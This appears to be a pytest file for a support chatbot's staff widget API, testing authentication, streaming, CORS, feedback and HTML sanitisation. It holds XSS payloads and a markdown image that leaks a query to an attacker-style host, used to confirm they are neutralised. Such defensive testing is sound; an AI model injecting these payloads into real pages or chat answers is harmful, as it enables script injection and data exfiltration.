"""The staff widget's HTTP side without a browser: auth rules, the SSE event sequence,
the static files, CORS."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr, ValidationError
from sqlalchemy import create_engine, select

from app.api.main import create_app
from app.bench.scripted_llm import Reply, ScriptedLLM
from app.db import migrate
from app.db.engine import sync_url
from app.db.models import Feedback
from app.settings import ApiKey, KnowledgeSettings, LLMSettings, Settings, WidgetSettings
from tests.conftest import make_client

STAFF = {"authorization": "Bearer alice-token"}
KEY = "widget:alice:1"


@pytest.fixture
def staff_client(settings: Settings, sample_index: Path) -> Iterator[TestClient]:
    settings.widget.staff_tokens = {"alice": SecretStr("alice-token")}
    settings.widget.allowed_origins = ["https://crm.example.com"]
    with make_client(settings, sample_index) as client:
        yield client


def ask(text: str, audience: str = "staff") -> dict[str, str]:
    return {"audience": audience, "author": "alice", "text": text}


def events(body: str) -> list[tuple[str, dict[str, object]]]:
    """Parse a text/event-stream body into (event, data) pairs."""
    parsed = []
    for block in body.strip().split("\n\n"):
        fields = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line)
        parsed.append((fields["event"], json.loads(fields["data"])))
    return parsed


def test_the_stream_sends_tokens_then_the_whole_reply(staff_client: TestClient) -> None:
    response = staff_client.post(
        f"/v1/conversations/{KEY}/messages/stream",
        json=ask("How do I create an invoice?"),
        headers=STAFF,
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/event-stream")
    sequence = events(response.text)
    kinds = [kind for kind, _ in sequence]
    assert kinds[-1] == "done" and set(kinds[:-1]) == {"token"} and len(kinds) > 3
    done = sequence[-1][1]
    streamed = "".join(str(data["text"]) for kind, data in sequence if kind == "token")
    assert streamed == done["text"]
    assert done["profile"] == "staff" and done["turn"] == 1
    assert any(c["source"] == "en/create-invoice.md" for c in done["citations"])  # type: ignore[attr-defined]

    history = staff_client.get(f"/v1/conversations/{KEY}", headers=STAFF).json()
    assert history["messages"][-1]["content"] == done["text"]


def test_bad_input_is_refused_before_the_stream_starts(staff_client: TestClient) -> None:
    response = staff_client.post(
        f"/v1/conversations/{KEY}/messages/stream", json=ask(""), headers=STAFF
    )
    assert response.status_code == 422
    assert response.json() == {"detail": "the message is empty"}


@pytest.mark.parametrize(
    ("headers", "status", "detail"),
    [
        # an anonymous client may not write a widget conversation at all
        ({}, 403, "conversations of the Telegram bot and the staff widget need staff credentials"),
        ({"authorization": "Bearer wrong"}, 401, "invalid credentials"),
    ],
)
def test_without_staff_credentials_nothing_is_stored(
    staff_client: TestClient, headers: dict[str, str], status: int, detail: str
) -> None:
    for path in ("messages", "messages/stream"):
        response = staff_client.post(
            f"/v1/conversations/{KEY}/{path}", json=ask("hello"), headers=headers
        )
        assert (response.status_code, response.json()) == (status, {"detail": detail})
    assert staff_client.get("/v1/widget/me", headers=headers).status_code == 401
    assert staff_client.get(f"/v1/conversations/{KEY}", headers=STAFF).status_code == 404


def test_a_client_can_never_get_the_staff_profile(staff_client: TestClient) -> None:
    # First come is not first served: a client cannot claim the widget key before alice.
    squatted = staff_client.post(
        f"/v1/conversations/{KEY}/messages", json=ask("hello", audience="client")
    )
    assert squatted.status_code == 403
    assert squatted.json() == {
        "detail": "conversations of the Telegram bot and the staff widget need staff credentials"
    }
    first = staff_client.post(f"/v1/conversations/{KEY}/messages", json=ask("hi"), headers=STAFF)
    assert first.status_code == 200 and first.json()["profile"] == "staff"
    # Alice herself cannot turn her staff conversation into a client one.
    as_client = staff_client.post(
        f"/v1/conversations/{KEY}/messages", json=ask("hello", audience="client"), headers=STAFF
    )
    assert as_client.status_code == 422
    assert "belongs to the staff audience" in as_client.json()["detail"]
    assert staff_client.get(f"/v1/conversations/{KEY}").status_code == 403


def test_a_refusal_found_when_the_turn_starts_is_a_422_on_the_stream_too(
    staff_client: TestClient,
) -> None:
    staff_client.post(f"/v1/conversations/{KEY}/messages", json=ask("hi"), headers=STAFF)
    response = staff_client.post(
        f"/v1/conversations/{KEY}/messages/stream", json=ask("hi", audience="client"), headers=STAFF
    )
    assert response.status_code == 422
    assert "belongs to the staff audience" in response.json()["detail"]


def behind_the_proxy(settings: Settings, sample_index: Path) -> TestClient:
    """The app as the SSO proxy on this machine reaches it (an API key: an open API is
    refused behind a proxy)."""
    settings.api.keys = {"shop": ApiKey(key=SecretStr("shop-key-0123456789abcdef"))}
    settings.widget.trusted_user_header = "X-Forwarded-User"
    settings.widget.trusted_proxies = WidgetSettings(trusted_proxies=["127.0.0.1"]).trusted_proxies
    settings.knowledge.qdrant_path = sample_index
    migrate.upgrade(settings.db.url)
    return TestClient(create_app(settings), client=("127.0.0.1", 40000))


def test_staff_sign_in_by_token_or_trusted_header(settings: Settings, sample_index: Path) -> None:
    settings.widget.staff_tokens = {"alice": SecretStr("alice-token")}
    with behind_the_proxy(settings, sample_index) as client:
        examples = settings.widget.example_questions
        me = client.get("/v1/widget/me", headers=STAFF).json()
        assert me == {
            "name": "alice",
            "conversation_prefix": "widget:alice:",
            "example_questions": examples,
        }
        by_proxy = client.get("/v1/widget/me", headers={"X-Forwarded-User": "bob"})
        assert by_proxy.json()["name"] == "bob"


def test_a_staff_name_with_a_space_chats_under_an_encoded_key(
    settings: Settings, sample_index: Path
) -> None:
    proxy = {"X-Forwarded-User": "Bob Smith"}
    with behind_the_proxy(settings, sample_index) as client:
        prefix = client.get("/v1/widget/me", headers=proxy).json()["conversation_prefix"]
        assert prefix == "widget:bob+20smith:"
        answered = client.post(
            f"/v1/conversations/{prefix}1/messages", json=ask("hi"), headers=proxy
        )
        assert answered.status_code == 200, answered.text
        listed = client.get("/v1/widget/conversations", headers=proxy).json()
        assert [c["key"] for c in listed["conversations"]] == [f"{prefix}1"]
        # "Bob-Smith" is someone else: no writing into Bob Smith's chats
        other = {"X-Forwarded-User": "Bob-Smith"}
        refused = client.post(
            f"/v1/conversations/{prefix}2/messages", json=ask("hi"), headers=other
        )
        assert refused.status_code == 403
        # His memory is his by the name he signs in with, spaces and all.
        remember = ask("Remember that I prefer short answers")
        assert client.post(f"/v1/conversations/{prefix}1/messages", json=remember,
                           headers=proxy).status_code == 200  # fmt: skip
        for name in ["Bob%20Smith", "bob%20smith"]:
            mine = client.get(f"/v1/people/{name}/memory", headers=proxy)
            assert mine.status_code == 200, mine.text
            assert [i["text"] for i in mine.json()] == ["I prefer short answers"]
        panel = client.get(f"/v1/conversations/{prefix}1/memory", headers=proxy).json()
        assert [p["scope"] for p in panel["people"]] == ["widget|bob smith"]
        for headers, path in [(other, "Bob%20Smith"), (proxy, "Bob-Smith"), (proxy, "'bob")]:
            refused = client.get(f"/v1/people/{path}/memory", headers=headers)
            assert refused.status_code == 403, (headers, path)
        assert client.get("/v1/people/bob%0Asmith/memory", headers=proxy).status_code == 422


def test_the_widget_is_served_and_cors_is_limited(staff_client: TestClient) -> None:
    page = staff_client.get("/widget")
    assert page.status_code == 200 and '<main id="supportbot"' in page.text
    assert (
        staff_client.get("/widget/embed.js").headers["content-type"].startswith("text/javascript")
    )
    assert staff_client.get("/widget/static/widget.js").status_code == 200
    allowed = staff_client.options(
        "/v1/widget/me",
        headers={"origin": "https://crm.example.com", "access-control-request-method": "GET"},
    )
    assert allowed.headers["access-control-allow-origin"] == "https://crm.example.com"
    other = staff_client.options(
        "/v1/widget/me",
        headers={"origin": "https://evil.example.com", "access-control-request-method": "GET"},
    )
    assert "access-control-allow-origin" not in other.headers


def test_feedback_is_stored_and_guarded(staff_client: TestClient, settings: Settings) -> None:
    staff_client.post(
        f"/v1/conversations/{KEY}/messages", json=ask("How do I create an invoice?"), headers=STAFF
    )
    path = f"/v1/conversations/{KEY}/turns/1/feedback"
    rating = {"rating": "down", "comment": "missing the due date"}
    assert staff_client.post(path, json=rating).status_code == 403  # not staff
    assert staff_client.post(path, json={"rating": "meh"}, headers=STAFF).status_code == 422
    missing = f"/v1/conversations/{KEY}/turns/9/feedback"
    assert staff_client.post(missing, json=rating, headers=STAFF).status_code == 404
    assert staff_client.post(path, json=rating, headers=STAFF).status_code == 201

    engine = create_engine(sync_url(settings.db.url))
    with engine.connect() as connection:
        rows = connection.execute(
            select(Feedback.turn, Feedback.rating, Feedback.comment, Feedback.author)
        ).all()
    engine.dispose()
    assert rows == [(1, "down", "missing the due date", "alice")]


HOSTILE = (
    "**Step 1.** Open *Sales*.\n\n"
    "- first\n- second\n\n"
    "```\nprint('<b>not bold</b>')\n```\n\n"
    "<script>window.hacked = 1</script>\n"
    '<img src="x" onerror="window.hacked = 2">\n\n'
    "[a trap](javascript:window.hacked=3) and [the manual](https://docs.example.com/a?b=1&c=2)"
    " ![pixel](https://evil.example/leak?q=secret)"
)


@pytest.fixture
def scripted_client(settings: Settings, sample_index: Path) -> Iterator[TestClient]:
    """The staff client, its model the scripted OpenAI-compatible server: every request
    answered with HOSTILE."""
    settings.widget.staff_tokens = {"alice": SecretStr("alice-token")}
    with ScriptedLLM(policy=lambda _: Reply(HOSTILE)) as base_url:
        settings.llm = LLMSettings(model="scripted", base_url=base_url, api_key="dummy")
        with make_client(settings, sample_index) as client:
            yield client


def test_an_answer_comes_as_markdown_and_as_html_without_anything_that_runs(
    scripted_client: TestClient,
) -> None:
    streamed = scripted_client.post(
        f"/v1/conversations/{KEY}/messages/stream", json=ask("hi"), headers=STAFF
    )
    done = events(streamed.text)[-1][1]
    assert done["text"] == HOSTILE
    html = str(done["html"])
    for rendered in (
        "<strong>Step 1.</strong>",
        "<li>first</li>",
        "<pre><code>print('&lt;b&gt;not bold&lt;/b&gt;')",
        '<a href="https://docs.example.com/a?b=1&amp;c=2" target="_blank" '
        'rel="noopener noreferrer">the manual</a>',
        # an image is a link to click, not a URL fetched the moment the answer shows
        '<a href="https://evil.example/leak?q=secret" target="_blank" '
        'rel="noopener noreferrer">pixel</a>',
    ):
        assert rendered in html
    # The tags are text the reader sees, never elements; no script, handler, image or
    # javascript: link survives.
    assert "&lt;script&gt;" in html and "<script" not in html
    assert "<img" not in html and "javascript:" not in html.replace("(javascript:", "")
    assert 'href="javascript' not in html
    history = scripted_client.get(f"/v1/conversations/{KEY}", headers=STAFF).json()
    answer = history["messages"][-1]
    assert (answer["content"], answer["html"]) == (HOSTILE, html)
    assert history["messages"][0]["html"] is None  # the question is shown as typed


def test_citations_link_to_the_public_page_when_the_collection_has_one(
    settings: Settings, sample_index: Path
) -> None:
    settings.widget.staff_tokens = {"alice": SecretStr("alice-token")}
    settings.knowledge.public_base_urls = {"kb": "https://help.example.com/docs/"}
    with make_client(settings, sample_index) as client:
        reply = client.post(
            f"/v1/conversations/{KEY}/messages",
            json=ask("How do I create an invoice?"),
            headers=STAFF,
        ).json()
        restored = client.get(f"/v1/conversations/{KEY}", headers=STAFF).json()
    url = "https://help.example.com/docs/en/create-invoice.md"
    assert url in [c["url"] for c in reply["citations"]]
    assert restored["messages"][-1]["citations"] == reply["citations"]


def test_without_a_public_base_url_a_citation_has_no_url(staff_client: TestClient) -> None:
    reply = staff_client.post(
        f"/v1/conversations/{KEY}/messages", json=ask("How do I create an invoice?"), headers=STAFF
    ).json()
    assert reply["citations"] and all(c["url"] is None for c in reply["citations"])
    invoice = next(c for c in reply["citations"] if c["source"] == "en/create-invoice.md")
    assert "**Sales → Invoices → New invoice**" in invoice["excerpt"]
    assert "<strong>Sales → Invoices → New invoice</strong>" in invoice["excerpt_html"]


@pytest.mark.parametrize(
    ("source", "url"),
    [
        # a key for a folder wins over the collection's: the public site is laid out apart
        ("gnucash-help-en/chang-lang.html", "https://code.gnucash.org/docs/C/gnucash-help/chang-lang.html"),
        ("gnucash-guide-de/bus-ar-invoices1.html", "https://code.gnucash.org/docs/de/gnucash-guide/bus-ar-invoices1.html"),
        ("other/a page.html", "https://mirror.example.com/other/a%20page.html"),
        ("https://example.com/page", "https://example.com/page"),  # already a URL
    ],
)  # fmt: skip
def test_a_source_maps_to_its_public_page(source: str, url: str) -> None:
    knowledge = KnowledgeSettings(
        collection="evals",
        public_base_urls={
            "evals": "https://mirror.example.com",
            "evals/gnucash-help-en/": "https://code.gnucash.org/docs/C/gnucash-help/",
            "evals/gnucash-guide-de": "https://code.gnucash.org/docs/de/gnucash-guide/",
            "kb": "https://elsewhere.example.com/",
        },
    )
    assert knowledge.public_url(source) == url
    # another collection's key never matches ("kb" is not a start of "kb2/…")
    elsewhere = knowledge.model_copy(update={"collection": "kb2"}).public_url(source)
    assert elsewhere == (source if source.startswith("https://") else None)


def test_a_public_base_url_is_a_web_address() -> None:
    with pytest.raises(ValidationError, match="'kb' is not an http"):
        KnowledgeSettings(public_base_urls={"kb": "javascript:alert(1)//"})


@pytest.mark.parametrize("database", ["sqlite", "postgresql"])
def test_each_staff_member_lists_their_own_chats_the_latest_first(
    settings: Settings, sample_index: Path, database: str, request: pytest.FixtureRequest
) -> None:
    if database == "postgresql":
        settings.db.url = request.getfixturevalue("own_pg_url")
    tokens = {"alice": "alice-token", "al_ce": "alxce-token", "bob": "bob-token"}
    settings.widget.staff_tokens = {name: SecretStr(token) for name, token in tokens.items()}
    settings.api.keys = {"shop": ApiKey(key=SecretStr("shop-key-0123456789"), prefix="api:")}
    as_ = {name: {"authorization": f"Bearer {token}"} for name, token in tokens.items()}
    with make_client(settings, sample_index) as client:
        for key, name, text in [
            ("widget:alice:1", "alice", "How do I create an invoice?"),
            ("widget:bob:1", "bob", "How do I import a bank statement?"),
            ("widget:alice:2", "alice", "Hello " + "there " * 30),
            ("widget:alice:1", "alice", "And a credit note?"),
        ]:
            posted = client.post(
                f"/v1/conversations/{key}/messages", json=ask(text), headers=as_[name]
            )
            assert posted.status_code == 200
        listed = client.get("/v1/widget/conversations", headers=as_["alice"]).json()
        assert (
            [(c["key"], c["title"]) for c in listed["conversations"]]
            == [
                ("widget:alice:1", "How do I create an invoice?"),  # its second turn came last
                ("widget:alice:2", ("Hello " + "there " * 30)[:80].rstrip() + "…"),
            ]
        )
        assert listed["conversations"][0]["last_activity"].endswith(("Z", "+00:00"))
        one = client.get("/v1/widget/conversations?limit=1", headers=as_["alice"]).json()
        assert [c["key"] for c in one["conversations"]] == ["widget:alice:1"]
        # `_` is a letter of a name, not a LIKE wildcard matching alice's chats
        assert client.get("/v1/widget/conversations", headers=as_["al_ce"]).json() == {
            "conversations": []
        }
        bobs = client.get("/v1/widget/conversations", headers=as_["bob"]).json()
        assert [c["key"] for c in bobs["conversations"]] == ["widget:bob:1"]
        assert client.get("/v1/widget/conversations").status_code == 401
        by_key = client.get(
            "/v1/widget/conversations", headers={"authorization": "Bearer shop-key-0123456789"}
        )
        assert by_key.status_code == 403


def test_the_history_shows_each_answers_latest_rating(staff_client: TestClient) -> None:
    for text in ("How do I create an invoice?", "And a credit note?"):
        staff_client.post(f"/v1/conversations/{KEY}/messages", json=ask(text), headers=STAFF)
    path = f"/v1/conversations/{KEY}/turns/1/feedback"
    staff_client.post(path, json={"rating": "up"}, headers=STAFF)
    staff_client.post(path, json={"rating": "down", "comment": "no due date"}, headers=STAFF)
    messages = staff_client.get(f"/v1/conversations/{KEY}", headers=STAFF).json()["messages"]
    answers = [m for m in messages if m["role"] == "assistant" and not m["tool_calls"]]
    assert [a["feedback"] for a in answers] == [
        {"rating": "down", "comment": "no due date"},
        None,
    ]


@pytest.mark.parametrize(
    "path", ["/widget", "/widget/static/index.html", "/widget/static/queue.html"]
)
def test_every_widget_page_has_its_policy_and_no_other_site_frames_it(
    staff_client: TestClient, path: str
) -> None:
    page = staff_client.get(path)
    assert page.status_code == 200
    policy = page.headers["content-security-policy"]
    assert policy.startswith("default-src 'self'; ") and policy.endswith("; frame-ancestors 'none'")
    assert page.headers["x-frame-options"] == "DENY"


def test_the_pages_that_embed_the_widget_may_frame_it(
    settings: Settings, sample_index: Path
) -> None:
    settings.widget.frame_ancestors = ["https://crm.example.com", "https://*.example.org"]
    with make_client(settings, sample_index) as client:
        page = client.get("/widget")
    assert page.headers["content-security-policy"].endswith(
        "; frame-ancestors https://crm.example.com https://*.example.org"
    )
    assert "x-frame-options" not in page.headers
    with pytest.raises(ValidationError, match="is not an origin"):
        WidgetSettings(frame_ancestors=["https://crm.example.com; script-src *"])
